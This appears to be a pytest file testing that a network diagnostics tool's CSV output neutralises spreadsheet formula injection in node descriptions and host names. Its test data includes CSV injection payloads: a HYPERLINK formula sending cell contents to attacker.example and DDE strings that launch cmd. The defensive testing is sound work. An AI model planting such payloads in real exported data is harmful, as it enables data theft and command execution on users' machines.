"""CSV formula injection (issue 42, item 8): a node description, host name or any text from outside
that starts with ``= + - @``, a tab or a carriage return must not become a spreadsheet formula in
``-o csv``; numbers, negative ones included, stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from ibdiag.output.csvout import render_csv
from tests.support.cli import run_cli
from tests.support.env import FIXTURES

FORMULAS = [
    '=HYPERLINK("http://attacker.example/?x="&A1,"details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-inf",
    "- 3",
    "--3",
    "-3x",
    "-0x10",
]
NUMBERS = ["-3", "-0.5", "+2", "-1e-3", "-.5", "3", "0.25", "-12345678901234567890"]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("value", FORMULAS)
def test_a_text_that_starts_a_formula_gets_a_quote_in_front(value: str) -> None:
    rows = _cells(render_csv(["name", "n"], [{"name": value, "n": 1}]))
    assert rows[1][0] == "'" + value
    assert rows[1][1] == "1"


@pytest.mark.parametrize("value", NUMBERS)
def test_a_number_written_as_text_stays_a_number(value: str) -> None:
    assert _cells(render_csv(["v"], [{"v": value}]))[1][0] == value


def test_numbers_stay_numbers_and_plain_text_stays_as_written() -> None:
    rows = [{"a": -3, "b": -0.5, "c": float("-inf"), "d": True, "e": None, "f": "gpu03 mlx5_2"}]
    assert _cells(render_csv(list("abcdef"), rows))[1] == [
        "-3",
        "-0.5",
        "-inf",
        "True",
        "",
        "gpu03 mlx5_2",
    ]


def test_a_node_description_in_fabric_csv_is_no_formula(tmp_path) -> None:
    """``fabric --from`` a bare ibnetdiscover file whose host adapters' node descriptions are
    formulas (node descriptions are set by each host's administrator): no cell of -o csv starts one."""
    net = (FIXTURES / "fabric" / "rail-fat-tree-faulty" / "ibnetdiscover.out").read_text()
    evil = ["=HYPERLINK(A1)", "+1+cmd|' /C calc'!A0", "-2+3+cmd", "@SUM(1+1)"]
    for i, host in enumerate(["gpu08 mlx5_3", "gpu07 mlx5_3", "gpu06 mlx5_3", "gpu05 mlx5_3"]):
        net = net.replace(f'"{host}"', f'"{evil[i]} mlx5_3"')
    path = tmp_path / "net.txt"
    path.write_text(net)
    res = run_cli("fabric", "--from", str(path), "-o", "csv")
    assert res.exit_code in (0, 1), res.stderr
    cells = [c for row in _cells(res.stdout) for c in row]
    assert any(c.startswith("'=HYPERLINK(A1)") for c in cells), res.stdout[:2000]
    bad = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    bad += [c for c in cells if c.startswith("-") and not _is_number(c)]
    assert not bad, bad[:5]


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
